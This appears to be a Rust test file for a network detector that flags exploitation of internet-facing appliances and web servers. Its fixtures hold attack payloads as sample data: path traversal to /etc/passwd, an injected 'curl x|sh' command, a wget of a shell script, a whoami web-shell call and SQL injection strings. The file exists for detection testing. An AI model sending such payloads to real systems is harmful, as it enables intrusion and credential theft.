use super::*;
use crate::testing::{decode_all, ev, run};
use crate::OrgProfile;

fn det() -> EdgeDevice {
    EdgeDevice {
        cfg: Config::default(),
        last_exploit: HashMap::default(),
        known: HashMap::default(),
        exploits: HashMap::default(),
    }
}

fn edge_profile() -> OrgProfile {
    OrgProfile::from_file(crate::ProfileFile {
        edge_hosts: vec!["10.100.0.5".into()],
        ..Default::default()
    })
    .unwrap()
}

#[test]
fn exploit_download_and_new_destination() {
    let mut v = vec![];
    // A day of normal life: updates from a known destination.
    for k in 0..24 {
        v.push(ev::conn(
            f64::from(k) * 3600.0,
            "10.100.0.5",
            "192.0.2.10",
            443,
            900,
            4000,
            Some("ssl"),
        ));
    }
    let t = 100_000.0;
    for (i, uri) in [
        "/api/v1/totp/user-backup-code/../../system/x",
        "/api/v1/license/keys-status/%3Bcurl%20x%7Csh",
        "/dana-na/../../etc/passwd",
    ]
    .iter()
    .enumerate()
    {
        v.push(ev::http(
            t + i as f64,
            "203.0.113.66",
            "10.100.0.5",
            "POST",
            "10.100.0.5",
            uri,
            "python-requests/2.31.0",
            900,
        ));
    }
    v.push(ev::http(
        t + 600.0,
        "10.100.0.5",
        "198.51.100.9",
        "GET",
        "198.51.100.9",
        "/a.sh",
        "Wget/1.21.3",
        2400,
    ));
    v.push(ev::conn(t + 600.0, "10.100.0.5", "198.51.100.9", 80, 200, 2700, Some("http")));
    let f = run(&mut det(), &v, &edge_profile());
    let exploit = f.iter().find(|p| p.draft.discriminator == "exploit").expect("exploit");
    assert_eq!(exploit.draft.score, 75.0, "confirmed by the download: {}", exploit.draft.summary);
    let by = exploit.draft.evidence["confirmed_by"].as_str().unwrap();
    assert!(by.contains("download") || by.contains("new destination"), "{by}");
    assert_eq!(exploit.draft.entity.ip, Some("10.100.0.5".parse().unwrap()));
    let dl = f.iter().find(|p| p.draft.discriminator == "download").expect("download");
    assert_eq!(dl.draft.score, 75.0);
    assert!(f.iter().any(|p| p.draft.discriminator.starts_with("new:") && p.draft.score == 50.0));
}

#[test]
fn web_shell_driven() {
    let v = vec![ev::http(
        10.0,
        "73.1.2.3",
        "10.100.0.10",
        "GET",
        "www.example.com",
        "/cms/uploads/images/thumb.aspx?c=whoami",
        "Mozilla/5.0",
        300,
    )];
    let f = run(&mut det(), &v, &OrgProfile::default());
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].draft.score, 70.0);
    assert_eq!(f[0].draft.attack, Some(vec![T_SHELL, T_EXPLOIT]));
}

#[test]
fn ordinary_requests_and_learned_destinations_are_quiet() {
    let mut v = vec![];
    for k in 0..50 {
        v.push(ev::http(
            f64::from(k),
            "203.0.113.7",
            "10.100.0.5",
            "GET",
            "vpn.example.com",
            &format!("/dana-na/auth/url_default/welcome.cgi?p={k}"),
            "Mozilla/5.0",
            5000,
        ));
        v.push(ev::conn(
            f64::from(k) * 1000.0,
            "10.100.0.5",
            "192.0.2.10",
            443,
            900,
            4000,
            Some("ssl"),
        ));
    }
    v.push(ev::conn(200_000.0, "10.100.0.5", "192.0.2.10", 443, 900, 4000, Some("ssl")));
    let f = run(&mut det(), &v, &edge_profile());
    assert!(f.is_empty(), "{:?}", f.iter().map(|p| &p.draft.summary).collect::<Vec<_>>());
}

#[test]
fn shared_data_edge_traffic() {
    // Slips test 9 and the RITA sensor: ordinary and scanned web servers.
    let Some(data) = dwell_testkit::shared_data() else { return };
    let evs = decode_all(&[&data.join("benign/rita_proxy_rolling")]);
    let f = run(&mut det(), &evs, &OrgProfile::default());
    assert!(
        f.iter().all(|p| p.draft.score < 50.0),
        "{:?}",
        f.iter().map(|p| &p.draft.summary).collect::<Vec<_>>()
    );
    // The RITA sample's internet-facing sensor receives exploit-looking scanner requests
    // (Mozi, LuCI command injection) all day and never acts on them: leads, below 50.
    let evs = decode_all(&[&data.join("beacon/rita_missing_host_2024-04-21")]);
    let profile = OrgProfile::from_file(crate::ProfileFile {
        internal_networks: Some(vec!["64.225.56.201/32".into()]),
        ..Default::default()
    })
    .unwrap();
    let f = run(&mut det(), &evs, &profile);
    assert!(f.iter().any(|p| p.draft.discriminator == "exploit"), "the attempts are seen");
    for p in &f {
        assert!(p.draft.score < 50.0, "{} {}", p.draft.score, p.draft.summary);
    }
}

#[test]
fn an_exposed_pc_that_browses_is_not_an_appliance() {
    let mut v = vec![];
    // A PC reachable from outside (declared edge here) that browses 200 sites a day.
    for day in 0..3u32 {
        for k in 0..200u32 {
            let t = f64::from(day) * 86_400.0 + f64::from(k) * 300.0;
            let ip = format!("198.{}.{}.{}", 18 + day, k / 250, k % 250 + 1);
            v.push(ev::conn(t, "10.100.0.5", &ip, 443, 900, 40_000, Some("ssl")));
        }
    }
    let f = run(&mut det(), &v, &edge_profile());
    assert!(f.is_empty(), "{:?}", f.iter().map(|p| &p.draft.summary).collect::<Vec<_>>());

    // CTU-50: a normal Windows PC exposed to the internet for days.
    let Some(data) = dwell_testkit::shared_data() else { return };
    let evs = decode_all(&[&data.join("mixed/ctu50_008-zeek-mixed")]);
    let f = run(&mut det(), &evs, &crate::testing::profile_with_internal(&["147.32.0.0/16"]));
    for p in &f {
        assert!(p.draft.score < 50.0, "{} {}", p.draft.score, p.draft.summary);
    }
}

#[test]
fn exploitation_between_internal_hosts() {
    let mut v = vec![];
    for (k, uri) in [
        "/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+user%2Cpassword+from+users%23",
        "/dv/vulnerabilities/sqli/?id=1%2527%2520or%2520%25271%2527%253D%25271",
        "/cgi-bin/handler/netsonar;cat /etc/passwd|?data=Download",
    ]
    .iter()
    .enumerate()
    {
        v.push(ev::http(
            k as f64,
            "10.0.5.9",
            "10.0.2.50",
            "GET",
            "intranet",
            uri,
            "sqlmap/1.7",
            500,
        ));
    }
    // Ordinary intranet use with quotes and encoded characters.
    v.push(ev::http(
        10.0,
        "10.0.5.8",
        "10.0.2.50",
        "GET",
        "intranet",
        "/search?q=O%27Brien+report",
        "Mozilla/5.0",
        800,
    ));
    v.push(ev::http(
        11.0,
        "10.0.5.8",
        "10.0.2.50",
        "GET",
        "intranet",
        "/docs/a%20b.pdf",
        "Mozilla/5.0",
        800,
    ));
    let f = run(&mut det(), &v, &OrgProfile::default());
    assert_eq!(f.len(), 1, "{:?}", f.iter().map(|p| &p.draft.summary).collect::<Vec<_>>());
    let d = &f[0].draft;
    assert_eq!(d.score, 60.0);
    assert_eq!(d.entity.ip, Some("10.0.5.9".parse().unwrap()));
    assert_eq!(d.attack.as_deref(), Some(&[T_REMOTE][..]));
    let Some(data) = dwell_testkit::shared_data() else { return };
    for (file, host) in [
        ("edge_exploit/WebattackSQLinj.pcap", "172.16.0.1"),
        ("edge_exploit/chrissanders_http_dvwa_sqlinjection.pcapng", "10.2.2.101"),
    ] {
        let evs = decode_all(&[&data.join(file)]);
        let f = run(&mut det(), &evs, &OrgProfile::default());
        assert!(
            f.iter()
                .any(|p| p.draft.score >= 50.0 && p.draft.entity.ip == Some(host.parse().unwrap())),
            "{file}: {:?}",
            f.iter().map(|p| (p.draft.score, &p.draft.summary)).collect::<Vec<_>>()
        );
    }
}
